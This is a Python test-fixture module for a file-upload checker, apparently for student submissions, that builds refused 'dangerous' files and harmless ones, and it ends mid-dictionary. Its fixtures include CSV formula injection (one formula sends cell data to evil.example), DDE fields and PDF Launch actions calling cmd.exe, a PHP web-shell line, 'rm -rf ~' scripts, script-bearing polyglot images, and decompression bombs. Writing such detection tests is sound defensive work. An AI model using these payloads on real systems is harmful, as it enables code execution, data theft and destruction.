"""Files that nobody should open, each with the reason it is refused for, and files as students really hand them in."""

from __future__ import annotations

import io
import json
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    Fit,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
    create_string_object,
)

from tests.assignments import samples

Name = NameObject
Entry = tuple[str, bytes, str]


def windows_program(distance: int = 128) -> bytes:
    """A program for Windows whose second mark stands so many bytes behind its first."""
    start = b"MZ" + b"\0" * 58 + struct.pack("<I", distance)
    return start.ljust(distance, b"\0") + b"PE\0\0" + b"\0" * 64


WINDOWS_PROGRAM = windows_program()
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
SCRIPTED = "<script>alert(document.cookie)</script>"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60
URL = b"[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n"
DESKTOP = b"# made by hand\n[Desktop Entry]\nType=Application\nExec=rm -rf ~\n"
WEBLOC = (
    b'<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x"><plist version="1.0"><dict>'
    b"<key>URL</key><string>file:///x</string></dict></plist>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600


def dictionary(**entries: Any) -> DictionaryObject:
    return DictionaryObject({Name(f"/{key}"): value for key, value in entries.items()})


def action(kind: str = "JavaScript", **more: Any) -> DictionaryObject:
    script = {"JS": TextStringObject("app.alert(1)")} if kind == "JavaScript" else {}
    return dictionary(S=Name(f"/{kind}"), **script, **more)


LAUNCH = dictionary(S=Name("/Launch"), F=TextStringObject("cmd.exe"))


def pdf_with(change: Callable[[PdfWriter], None]) -> bytes:
    """A sound one-page PDF, changed."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(samples.pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pressed(kind: str, **more: Any) -> Callable[[PdfWriter], None]:
    def change(w: PdfWriter) -> None:
        note = dictionary(Type=Name("/Annot"), Subtype=Name("/Link"), A=action(kind, **more))
        w.pages[0][Name("/Annots")] = ArrayObject([w._add_object(note)])

    return change


SHARE = TextStringObject("\\\\evil.example\\share\\x.pdf")


def bookmark(w: PdfWriter) -> None:
    item = w.add_outline_item(title="Chapter", page_number=0)
    entry = item.get_object()
    entry.pop("/Dest", None)
    entry[Name("/A")] = action()


def chained_bookmark(w: PdfWriter) -> None:
    entry = w.add_outline_item(title="Chapter", page_number=0).get_object()
    going = dictionary(S=Name("/GoTo"), D=create_string_object("x"))
    going[Name("/Next")] = ArrayObject([w._add_object(LAUNCH)])
    entry[Name("/A")] = going


def field(w: PdfWriter) -> None:
    inner = dictionary(T=TextStringObject("sum"), AA=dictionary(C=action()))
    outer = dictionary(T=TextStringObject("form"), Kids=ArrayObject([w._add_object(inner)]))
    w._root_object[Name("/AcroForm")] = dictionary(Fields=ArrayObject([w._add_object(outer)]))


def xfa(w: PdfWriter) -> None:
    stream = StreamObject()
    stream.set_data(b"<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>")
    w._root_object[Name("/AcroForm")] = dictionary(Fields=ArrayObject(), XFA=w._add_object(stream))


def annotation(w: PdfWriter) -> None:
    note = dictionary(Type=Name("/Annot"), Subtype=Name("/Link"), A=LAUNCH)
    w.pages[0][Name("/Annots")] = ArrayObject([w._add_object(note)])


def pressed_annotation(w: PdfWriter) -> None:
    note = dictionary(
        Type=Name("/Annot"), Subtype=Name("/Widget"), AA=dictionary(U=w._add_object(action("URI")))
    )
    w.pages[0][Name("/Annots")] = ArrayObject([note])


def attached_note(w: PdfWriter) -> None:
    note = dictionary(Type=Name("/Annot"), Subtype=Name("/FileAttachment"))
    w.pages[0][Name("/Annots")] = ArrayObject([note])


def script_tree(w: PdfWriter) -> None:
    leaf = dictionary(Names=ArrayObject([TextStringObject("a"), w._add_object(action())]))
    tree = dictionary(Kids=ArrayObject([w._add_object(leaf)]))
    w._root_object[Name("/Names")] = dictionary(JavaScript=w._add_object(tree))


def opens(kind: str) -> Callable[[PdfWriter], None]:
    def change(w: PdfWriter) -> None:
        does = dictionary(S=Name(f"/{kind}"), URI=TextStringObject("https://evil.example"))
        w._root_object[Name("/OpenAction")] = w._add_object(does)

    return change


def catalog_acts(w: PdfWriter) -> None:
    w._root_object[Name("/AA")] = dictionary(WC=dictionary(S=Name("/GoToR")))


def script_address(w: PdfWriter) -> None:
    does = dictionary(S=Name("/URI"), URI=TextStringObject(" JavaScript:alert(1)"))
    w.pages[0][Name("/Annots")] = ArrayObject([dictionary(Subtype=Name("/Link"), A=does)])


def rendition(w: PdfWriter) -> None:
    w.pages[0][Name("/Annots")] = ArrayObject([dictionary(A=action("Rendition"))])


def in_object_stream(payload: bytes, *, listed: bool = True) -> bytes:
    """A PDF whose acting object stands in a compressed stream of objects; `listed`: a table names that."""
    packed = zlib.compress(b"9 0 " + payload)
    stream = (
        b"8 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
        % (len(packed), packed)
    )
    whole = samples.pdf()
    at = whole.rindex(b"\nxref\n") + 1
    if not listed:
        return (
            whole[:at]
            + stream
            + whole[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(stream)))
        )
    return _with_xref_stream(whole, at, stream)


def _with_xref_stream(whole: bytes, at: int, stream: bytes) -> bytes:
    """Add an update whose table, a stream, names the object in the stream of objects."""
    entries = struct.pack(">BIB", 1, len(whole) + 1, 0) + struct.pack(">BIB", 2, 8, 0)
    here = len(whole) + 1 + len(stream)
    root = PdfReader(io.BytesIO(whole)).trailer.raw_get("/Root").idnum
    table = (
        b"10 0 obj\n<</Type/XRef/Size 11/W[1 4 1]/Index[8 2]/Root %d 0 R/Prev %d/Length %d>>"
        b"stream\n%s\nendstream endobj\n" % (root, at, len(entries), entries)
    )
    return whole + b"\n" + stream + table + b"startxref\n%d\n%%%%EOF\n" % here


def encrypted(change: Callable[[PdfWriter], None]) -> bytes:
    """A PDF that opens without a password, and is encrypted all the same."""

    def work(w: PdfWriter) -> None:
        change(w)
        w.encrypt("", "owner", algorithm="RC4-128")

    return pdf_with(work)


def escaped_name() -> bytes:
    """The name of an action with its letters written as numbers."""
    return samples.pdf(action="/JavaScript").replace(b"/S /JavaScript", b"/S /J#61va#53cript")


def earlier_revision() -> bytes:
    """An acting object that no table names."""
    whole = samples.pdf()
    at = whole.rindex(b"\nxref\n") + 1
    hidden = b"77 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"
    return (
        whole[:at]
        + hidden
        + whole[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))
    )


def docx(parts: dict[str, str | bytes] | None = None, **relationships: str) -> bytes:
    """A Word document as Word writes it. `relationships`: XML of further relationships, by any name."""
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    body = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        "A review of rain radar.</w:t></w:r></w:p></w:body></w:document>"
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inner = "".join(text.replace("REL", office) for text in relationships.values())
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": types,
        "word/document.xml": body,
        "word/_rels/document.xml.rels": f'<Relationships xmlns="r">{inner}</Relationships>',
        **(parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in whole.items():
            archive.writestr(name, text)
    return out.getvalue()


def field_text(*pieces: str) -> dict[str, str | bytes]:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return {
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
    }


def nested(*pieces: str) -> dict[str, str | bytes]:
    """A document's body with fields in fields: `{`, `|` and `}` are where they begin, yield and end."""
    kinds = {"{": "begin", "|": "separate", "}": "end"}
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="{kinds[piece]}"/></w:r>'
        if piece in kinds
        else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    return {
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
    }


TEMPLATE = '<Relationship Id="r1" Type="REL/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>'
LINKED_OBJECT = (
    '<Relationship Id="r2" Type="REL/oleObject" Target="file://evil/x" TargetMode="External"/>'
)
LINKED_PICTURE = '<Relationship Id="r3" Type="REL/image" Target="https://evil.example/a.png" TargetMode="External"/>'
UNC = (
    '<Relationship Id="r4" Type="REL/hyperlink" Target="file://evil/share" TargetMode="External"/>'
)
LINK = '<Relationship Id="r5" Type="REL/hyperlink" Target="https://arxiv.org/abs/1" TargetMode="External"/>'
CHUNK = '<Relationship Id="r6" Type="REL/aFChunk" Target="chunk.xml"/>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;">]>'
    '<Relationships xmlns="r"><Relationship Type="&b;" Target="x"/></Relationships>'
)


def png(extra: bytes = b"") -> bytes:
    return samples.PNG + extra


JPEG = (
    b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xe1\0\x0a\xff\xd8thum\xff\xd9\xff\xda\0\3\0"
    + b"coded\xff\0pixels\xff\xd0more\xff\xc4\0\3\0\xff\xda\0\3\0and more\xff\xd9"
)  # fmt: skip
"""Two scans, a restart mark and a thumbnail whose own end isn't the photo's."""
GIF = (
    b"GIF89a\1\0\1\0\x80\0\0" + b"\0" * 6 + b"\x21\xf9\4\0\0\0\0\0" + b"\x2c" + b"\0" * 8 + b"\x80" + b"\0" * 6
    + b"\2\2;;\0;"
)  # fmt: skip
"""One frame with colors of its own, and with the trailer's byte among its pixels."""
WEBP = b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0" + b"\x2f" + b"\0" * 13
MACH_O = b"\xcf\xfa\xed\xfe" + b"\0\1" * 100


def zip_bytes() -> bytes:
    return samples.archive()


def fills(part: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", part)
    return out.getvalue()


EMF = b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 60
WMF = b"\xd7\xcd\xc6\x9a" + b"\0" * 60


def bmp(
    size: bytes = b"\x4e\0\0\0", *, header: int = 40, height: int = 2, packed: int = 0
) -> bytes:
    """A picture of 2 by 2 pixels, 24 bits each, whose rows take 8 bytes."""
    if header == 12:
        return b"BM" + size + b"\0" * 4 + struct.pack("<IIHHHH", 26, 12, 2, 2, 1, 24) + b"\7" * 16
    shape = struct.pack("<IiiHHII", header, 2, height, 1, 24, packed, 16)
    return (
        b"BM"
        + size
        + b"\0" * 4
        + struct.pack("<I", 14 + header)
        + shape.ljust(header, b"\0")
        + b"\7" * 16
    )


def profiled() -> bytes:
    """A picture with a color profile behind its pixels."""
    whole = bmp(header=124)
    return whole[:126] + struct.pack("<II", len(whole) - 14, 40) + whole[134:] + b"p" * 40


DRAWING = r"it's (?:really )?a Windows drawing \(EMF or WMF\)"
STARTS_SCRIPT = r"\(its first bytes are the start of a script, too\)"
SCRIPT_GIF = b"GIF89a/*\1\0\0\0\0" + GIF[13:-1] + b"\x21\xfe\x0f*/=1;alert(1)//.\0;"
PROGRAM = "it contains a program"
BY_ITSELF = "it does something by itself"
EMBEDDED = "another file is embedded in it"
TWO = "it's two files in one"
WEB = "it's really a web page|it's a web page"
SHORTCUT = "it's a shortcut|it's really a shortcut"
FETCHES = "it fetches something from elsewhere"

MORE = r"\(something else stands behind the picture's end\)"
NO_PICTURE = r"\(what stands for a picture is none, or more than one\)"
MHTML = b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\tboundary=x\r\n\r\n--x"

STARTS_ONE = r"it contains a program \(a cell in it starts a program\)"
DANGEROUS: dict[str, Entry] = {
    "a picture with a Mac program behind it": ("a.png", png(MACH_O), MORE),
    "a picture with Java behind it": ("a.png", png(b"\xca\xfe\xba\xbe" + b"\0\1" * 100), MORE),
    "a picture with a RAR behind it": ("a.png", png(b"\0" * 9 + b"Rar!\x1a\x07\0" + b"\1" * 50), MORE),
    "a picture with a 7z behind it": ("a.png", png(b"7z\xbc\xaf\x27\x1c" + b"\1" * 50), MORE),
    "a picture cut short with more behind it": (
        "a.png", samples.PNG[:40] + b"\xff" * 9 + b"IEND\xaeB`\x82" + MACH_O, MORE,
    ),
    "a photo with a program behind it": ("a.jpg", JPEG + MACH_O, MORE),
    "a photo with a program behind the next": ("a.jpg", JPEG + JPEG + MACH_O, MORE),
    "a GIF with a program behind it": ("a.gif", GIF + MACH_O, MORE),
    "a WebP with a program behind it": ("a.webp", WEBP + MACH_O, MORE),
    "a picture with a far Windows program": ("a.png", png(windows_program(2048)), r"\(a program is hidden in it\)"),
    "a PDF with a far Windows program": ("a.pdf", samples.pdf() + windows_program(4096) + b"\n%%EOF\n", TWO),
    "a picture with a frame in it": ("a.bmp", bmp(height=9) + b"<iframe src=x>", TWO),
    "a batch file behind a remark": ("a.txt", b"rem hi\r\n:: ho\r\n@echo off\r\ndel *\r\n", "it's really a script"),
    "a batch file of its own variables": ("a.txt", b"@setlocal\r\ndel *\r\n", "it's really a script"),
    "a shell script behind an empty line": ("a.txt", b"\n#!/bin/sh\nrm", "it's really a script"),
    "PostScript called a text": ("a.txt", b"%!PS-Adobe-3.0\n(x) deletefile\n", "it's really a script"),
    "a web page saved as one file": ("a.txt", MHTML, WEB),
    "a web page behind a control character": ("a.txt", b"\x01\x02<html><script>1</script>", WEB),
    "a web page behind what isn't seen": ("a.txt", "\u200b\u2060\ufeff<html>".encode(), WEB),
    "a web page in UTF-7": ("a.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", WEB),
    "a web page behind an empty comment": ("a.txt", b"<!--><script>1</script>", WEB),
    "a PDF that sends a form": (
        "a.pdf", pdf_with(pressed("SubmitForm", F=SHARE)), r"\(a button that sends what's in it",
    ),
    "a PDF with a movie": ("a.pdf", pdf_with(pressed("Movie")), r"\(a movie action\)"),
    "a PDF with a sound": ("a.pdf", pdf_with(pressed("Sound")), r"\(a sound action\)"),
    "a PDF that leads to a share": ("a.pdf", pdf_with(pressed("GoToR", F=SHARE)), FETCHES),
    "a PDF that leads to a described share": ("a.pdf", pdf_with(pressed("GoToR", F=dictionary(UF=SHARE))), FETCHES),
    "a Word document with a program as a picture": (
        "a.docx", docx({"word/media/image1.png": WINDOWS_PROGRAM}), NO_PICTURE,
    ),
    "a Word document with a picture and a program": (
        "a.docx", docx({"word/media/image1.png": png(MACH_O)}), NO_PICTURE,
    ),
    "a Word document with a script in a drawing": (
        "a.docx", docx({"word/media/image1.svg": SVG}), r"\(a drawing with a script\)",
    ),
    "a Word document that changes the menus": (
        "a.docx", docx({"customUI/customUI.xml": "<customUI onLoad='x'/>"}), PROGRAM,
    ),
    "a Word document that's a Java program": (
        "a.docx", docx({"META-INF/MANIFEST.MF": "x"}), r"\(a Java program is hidden",
    ),
    "a Word document with Java in it": ("a.docx", docx({"A.class": b"\xca\xfe\xba\xbe"}), EMBEDDED),
    "a Word document with a web page behind it": (
        "a.docx", docx()[:-2] + struct.pack("<H", 25) + b"<script>alert(1)</script>", r"\(a web page is hidden in it\)"
    ),
    "a Windows drawing": ("plot.emf", EMF, DRAWING),
    "a Windows drawing called a picture": ("plot.png", EMF, DRAWING),
    "an older Windows drawing called a photo": ("plot.jpg", WMF, DRAWING),
    "a picture format that nobody asked for": ("plot.png", b"8BPS\0\1" + b"\0" * 200, "really something else"),
    "a program's data called a song": ("song.mp3", b"\0\1\2\3" * 90, "really something else"),
    "a GIF that's a script": ("a.gif", SCRIPT_GIF, STARTS_SCRIPT),
    "a BMP that's a script": ("a.bmp", bmp(b"/*\0\0") + b"*/=1;alert(1)", STARTS_SCRIPT),
    "a BMP that's a text in a script": ("a.bmp", bmp(b"='\0\0") + b"';alert(1)", STARTS_SCRIPT),
    "a BMP's mark before a script": ("a.bmp", b"BM=1;" + b"\x80alert(1);" * 30, "really something else"),
    "a BMP with a script behind it": ("a.bmp", bmp() + b";alert(document.cookie)", MORE),
    "an old BMP with a script behind it": ("a.bmp", bmp(header=12) + b";alert(document.cookie)", MORE),
    "a packed BMP with a script behind it": ("a.bmp", bmp(packed=1) + b";alert(document.cookie)", MORE),
    "a BMP upside down with a script behind it": ("a.bmp", bmp(height=-2) + b";alert(document.cookie)", MORE),
    "a Word document whose field spells DDE in numbers": (
        "a.docx", docx(nested("{", " ", "{", " QUOTE 68 68 69 65 85 84 79 ", "|", "}", " c:\\cmd.exe ", "}")),
        r"\(a field whose name another one spells\)",
    ),
    "a Word document whose simple field spells in numbers": (
        "a.docx",
        docx({"word/document.xml": '<d xmlns:w="w"><w:fldSimple w:instr=" QUOTE 0x44 0x44 0x45"/></d>'}),
        r"\(a field that spells its text in numbers\)",
    ),
    "a Word document whose field spells half of a name": (
        "a.docx", docx(nested("{", " D", "{", ' QUOTE "DEAUTO" ', "}", " c:\\cmd.exe ", "}")),
        r"\(a field whose name another one spells\)",
    ),
    "a Word document that includes what another field says": (
        "a.docx", docx(nested("{", " INCLUDEPICTURE ", "{", " REF address ", "}", "}")), FETCHES,
    ),
    "a Word document with a linked sheet": (
        "a.docx", docx(nested("{", ' LINK Excel.Sheet.12 "\\\\evil\\a.xlsx" ', "|", "}")), FETCHES,
    ),
    "a table whose cell starts a program": ("a.csv", b"step,loss\n1,=cmd|' /C calc'!A0\n", STARTS_ONE),
    "a table whose cell adds a program": ("a.csv", b'step;loss\r\n1; "=1+cmd|\'/C calc\'!A0"', STARTS_ONE),
    "a table whose cell takes a program away": ("a.tsv", b"1\t-cmd|'/C calc'!A0", STARTS_ONE),
    "a table in another form called CSV": ("a.csv", b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"CALC.EXE\")\nE\n", STARTS_ONE),
    "a table that fetches": ("a.csv", b'a,b\n1,"=WEBSERVICE(""http://evil.example/""&A1)"\n', FETCHES),
    "a table that leads away": ("a.csv", b'a\n+HYPERLINK("http://evil.example")\n', FETCHES),
    "a Windows program": ("setup.exe", WINDOWS_PROGRAM, "it's a program"),
    "a Windows program called a PDF": ("review.pdf", WINDOWS_PROGRAM, "it's really a program"),
    "a Linux program called a notebook": ("lab.ipynb", ELF, "it's really a program"),
    "a shell script": ("run.sh", b"#!/bin/sh\nrm -rf ~\n", "it's a program"),
    "a Python script": ("lab.py", b"import os\nprint(1)\n", r"ends in \.py makes it a program"),
    "JavaScript": ("a.js", b"new ActiveXObject('WScript.Shell')", r"ends in \.js makes it a program"),
    "a text with a screensaver's name": ("a.scr", b"hello", r"ends in \.scr makes it a program"),
    "a batch file called a text": ("a.txt", b"@ECHO OFF\r\ndel *\r\n", "it's really a script"),
    "PHP called a text": ("a.txt", b"<?php system($_GET[0]);", "it's really a script"),
    "a registry file called a text": ("a.txt", "Windows Registry Editor Version 5.00\r\n".encode("utf-16"), "a script"),
    "a Windows shortcut": ("review.lnk", LNK, SHORTCUT),
    "a Windows shortcut called a PDF": ("review.pdf", LNK, SHORTCUT),
    "a web shortcut": ("paper.url", URL, SHORTCUT),
    "a web shortcut called a text": ("paper.txt", b"\xef\xbb\xbf; x\r\n" + URL, SHORTCUT),
    "a desktop entry": ("paper.desktop", DESKTOP, SHORTCUT),
    "a desktop entry called a text": ("paper.txt", DESKTOP, SHORTCUT),
    "a webloc": ("paper.webloc", WEBLOC, SHORTCUT),
    "a webloc in binary": ("paper.webloc", b"bplist00" + b"\0" * 40, SHORTCUT),
    "a link's name on a text": ("paper.lnk", b"hello", SHORTCUT),
    "a web page": ("review.html", samples.HTML, WEB),
    "a web page called a text": ("review.txt", SCRIPTED.encode(), WEB),
    "a web page called a PDF": ("review.pdf", samples.HTML, WEB),
    "a web page called a picture": ("a.png", b"\n\n \t<HTML><body onload=x>", WEB),
    "a web page behind a mark": ("a.txt", b"\xef\xbb\xbf\r\n" + samples.HTML, WEB),
    "a web page in UTF-16": ("a.txt", SCRIPTED.encode("utf-16"), WEB),
    "a web page in UTF-16 without its mark": ("a.txt", SCRIPTED.encode("utf-16-le"), WEB),
    "a web page behind comments": ("a.txt", b"<!-- a -->\n<!-- b\n -->\n<iframe src=x>", WEB),
    "a web page behind much space": ("a.md", b" \n" * 20_000 + samples.HTML, WEB),
    "a web page that begins with a tag": ("a.txt", b"<img src=x onerror=alert(1)>", WEB),
    "a web page with a plain name": ("notes", samples.HTML, WEB),
    "an SVG": ("plot.svg", SVG, WEB),
    "an SVG called a picture": ("plot.png", b'<?xml version="1.0"?>\n' + SVG, WEB),
    "an SVG called a text": ("plot.txt", b"\xef\xbb\xbf<!-- x -->" + SVG, WEB),
    "a PDF's mark before a program": ("a.pdf", b"%PDF-1.7\n" + WINDOWS_PROGRAM + b"\n%%EOF", TWO + "|can't be read"),
    "a PDF with a program in it": ("a.pdf", samples.pdf()[:-6] + WINDOWS_PROGRAM + b"\n%%EOF\n", TWO),
    "a PDF with a Linux program behind it": ("a.pdf", samples.pdf() + ELF + b"%%EOF", TWO),
    "a PDF with an archive behind it": ("a.pdf", samples.pdf() + zip_bytes() + b"\n%%EOF"[:0], TWO + "|cut off"),
    "a program with a PDF behind it": ("a.pdf", b"\x89junk\0" + samples.pdf(), TWO),
    "a web page with a PDF behind it": ("a.pdf", b"<script>x</script>\x80" + samples.pdf(), TWO),
    "a PDF's mark before a web page": ("a.pdf", b"%PDF-1.4\n<script>alert(1)</script>\n" + samples.pdf()[9:], TWO),
    "a picture with an archive behind it": ("a.png", png(zip_bytes()), TWO),
    "a picture with a program behind it": ("a.png", png(WINDOWS_PROGRAM), TWO),
    "a picture with a web page in it": ("a.png", png(SCRIPTED.encode()), TWO),
    "a picture with a PDF in it": ("a.png", png(samples.pdf()), TWO),
    "a PDF whose bookmark runs a script": ("a.pdf", pdf_with(bookmark), PROGRAM),
    "a PDF whose bookmark launches at last": ("a.pdf", pdf_with(chained_bookmark), r"\(a launch action\)"),
    "a PDF whose field runs a script": ("a.pdf", pdf_with(field), PROGRAM),
    "a PDF with an XFA form": ("a.pdf", pdf_with(xfa), r"\(an XFA form\)"),
    "a PDF whose link launches": ("a.pdf", pdf_with(annotation), r"\(a launch action\)"),
    "a PDF with a script in its names": ("a.pdf", pdf_with(script_tree), r"\(JavaScript\)"),
    "a PDF that opens an address": ("a.pdf", pdf_with(opens("URI")), BY_ITSELF),
    "a PDF that opens a launch": ("a.pdf", pdf_with(opens("Launch")), PROGRAM),
    "a PDF that acts when closed": ("a.pdf", pdf_with(catalog_acts), BY_ITSELF),
    "a PDF that acts when pressed": ("a.pdf", pdf_with(pressed_annotation), BY_ITSELF),
    "a PDF with a script as an address": ("a.pdf", pdf_with(script_address), PROGRAM),
    "a PDF with a rendition": ("a.pdf", pdf_with(rendition), PROGRAM),
    "a PDF with an attachment": ("a.pdf", pdf_with(lambda w: w.add_attachment("x.exe", b"MZ") and None), EMBEDDED),
    "a PDF with an attachment on a page": ("a.pdf", pdf_with(attached_note), EMBEDDED),
    "a PDF with a script in a stream of objects": ("a.pdf", in_object_stream(b"<</S/JavaScript/JS(x)>>"), PROGRAM),
    "a PDF with a script where no table looks": (
        "a.pdf", in_object_stream(b"<</S/JavaScript/JS(x)>>", listed=False), PROGRAM,
    ),
    "a PDF with a launch in an earlier revision": ("a.pdf", earlier_revision(), PROGRAM),
    "a PDF with a script's name in numbers": ("a.pdf", escaped_name(), PROGRAM),
    "a PDF with a script behind encryption": ("a.pdf", encrypted(bookmark), PROGRAM),
    "a locked PDF": ("a.pdf", samples.pdf(password="secret"), "locked with a password"),
    "a Word document with macros": ("a.docx", samples.docx(macros=True), "it contains macros"),
    "a Word document with macros aside": ("a.docx", docx({"word/other/VbaProject.BIN": b"x"}), "it contains macros"),
    "a Word document that says it has macros": (
        "a.docx",
        docx({"[Content_Types].xml": f"<Types><Default ContentType='{MACROS}'/></Types>"}),
        "it contains macros",
    ),
    "a Word document with a remote template": ("a.docx", docx(a=TEMPLATE), FETCHES),
    "a Word document with a linked object": ("a.docx", docx(a=LINKED_OBJECT), EMBEDDED),
    "a Word document with a linked picture": ("a.docx", docx(a=LINKED_PICTURE), FETCHES),
    "a Word document that leads to a share": ("a.docx", docx(a=UNC), FETCHES),
    "a Word document with an object": ("a.docx", docx({"word/embeddings/oleObject1.bin": OLE}), EMBEDDED),
    "a Word document with a control": ("a.docx", docx({"word/activeX/activeX1.xml": "<x/>"}), EMBEDDED),
    "a Word document with a web page": ("a.docx", docx({"word/chunk.html": "<html/>"}), EMBEDDED),
    "a Word document with a chunk": ("a.docx", docx({"word/chunk.xml": "<x/>"}, a=CHUNK), EMBEDDED),
    "a Word document with a DDE field": ("a.docx", docx(field_text("DD", "EAUTO c:\\\\cmd.exe")), PROGRAM),
    "a Word document that includes": ("a.docx", docx(field_text('INCLUDEPICTURE "https://evil.example/x"')), FETCHES),
    "a Word document full of laughs": ("a.docx", docx({"word/_rels/document.xml.rels": LAUGHS}), "can't be read"),
    "a Word document that unpacks to 100 MB": ("a.docx", fills(b"\0" * 100_000_000), "unpacks to far more"),
    "a Word document that unpacks to 20 MB": ("a.docx", fills(b" " * 20_000_000), "unpacks to far more"),
    "an old Word document": ("a.doc", OLE, "it's an old or locked Office file"),
    "an old Word document called a new one": ("a.docx", OLE, "it's really an old or locked Office file"),
    "a Word document's name for macros": ("a.docm", docx(), "promises an Office file with programs"),
    "rich text with an object": ("a.rtf", rb"{\rtf1{\object\objdata 0105}}", "it's rich text"),
    "rich text called a document": ("a.docx", b"{\\rtf1 hello}", "it's really rich text"),
    "rich text called a text": ("a.txt", b"\n{ \\rtxa{\\object}}", "it's really rich text"),
    "an archive": ("a.zip", zip_bytes(), "I don't unpack those"),
    "a RAR archive": ("a.rar", b"Rar!\x1a\x07\x00" + b"\0" * 50, "I don't unpack those"),
    "a disk image": ("a.iso", b"\0" * 40_000, "can't tell|makes it a program"),
    "an ending turned round": ("a\u202efdp.exe", b"hello", r"ends in \.exe makes it a program"),
    "an unknown ending": ("a.xyz", b"hello", r"don't take files whose names end in \.xyz"),
}  # fmt: skip


def linked(w: PdfWriter) -> None:
    """As LaTeX with hyperref writes it: links out, links in, bookmarks, and where to begin."""
    w.add_uri(0, "https://arxiv.org/abs/1706.03762", [40, 40, 200, 60])
    w.add_annotation(
        0, Link(rect=(40, 80, 200, 90), target_page_index=0, fit=Fit.fit_horizontally(0))
    )
    w.add_outline_item(title="Introduction", page_number=0)
    w._root_object[Name("/OpenAction")] = ArrayObject([w.pages[0].indirect_reference, Name("/Fit")])
    w.add_metadata({"/Title": "On /JavaScript and /Launch"})


def form(w: PdfWriter) -> None:
    box = dictionary(T=TextStringObject("name"), FT=Name("/Tx"), Subtype=Name("/Widget"))
    w._root_object[Name("/AcroForm")] = dictionary(Fields=ArrayObject([w._add_object(box)]))


def named_like_actions(w: PdfWriter) -> None:
    """Resources may have any name."""
    fonts = w.pages[0]["/Resources"]["/Font"]  # type: ignore[index]
    fonts[Name("/AA")] = fonts["/F1"]
    fonts[Name("/JS")] = fonts["/F1"]


def tagged(w: PdfWriter) -> None:
    item = dictionary(Type=Name("/StructElem"), S=Name("/Span"), K=NumberObject(0))
    w._root_object[Name("/StructTreeRoot")] = dictionary(K=w._add_object(item))


def compressed() -> bytes:
    def work(w: PdfWriter) -> None:
        for page in w.pages:
            page.compress_content_streams()

    return pdf_with(work)


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setparams((1, 2, 8000, 0, "NONE", ""))
        file.writeframes(b"\0\1" * 8000)
    return out.getvalue()


def rich_notebook() -> bytes:
    """A run notebook whose outputs hold a table in HTML and a picture."""
    book: dict[str, Any] = json.loads(samples.notebook())
    book["cells"][0]["source"] = ["import os\n", "HTML('<script>alert(1)</script>')"]
    book["cells"][0]["outputs"] = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<table><tr><td>1</td></tr></table>"]}}
    ]  # fmt: skip
    return json.dumps(book).encode()


CODE_IN_PROSE = (
    "A web page begins with <!DOCTYPE html>, and a script is written <script>alert(1)</script>.\n"
    "A PDF begins with %PDF-1.7, and a shell script with\n#!/bin/sh\nrm -rf ~\n[Desktop Entry]\n{\\rtf1}\n"
)

HARMLESS: dict[str, tuple[str, bytes]] = {
    "a PDF": ("review.pdf", samples.pdf()),
    "a PDF of three pages": ("review.pdf", samples.pdf(pages=3)),
    "a PDF with links and bookmarks": ("review.pdf", pdf_with(linked)),
    "a PDF with a form": ("review.PDF", pdf_with(form)),
    "a PDF with odd names": ("review.pdf", pdf_with(named_like_actions)),
    "a PDF with tags": ("review.pdf", pdf_with(tagged)),
    "a compressed PDF": ("review.pdf", compressed()),
